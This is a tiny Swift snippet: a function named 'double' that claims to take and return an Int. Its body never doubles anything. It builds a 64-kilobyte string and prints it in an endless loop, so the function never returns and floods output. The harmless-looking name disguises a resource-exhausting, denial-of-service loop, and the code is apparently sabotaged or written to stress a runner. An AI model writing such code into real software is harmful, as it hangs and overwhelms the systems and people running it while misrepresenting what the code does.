func double(_ n: Int) -> Int {
  let piece = String(repeating: "x", count: 65536)
  while true { print(piece, terminator: "") }
}
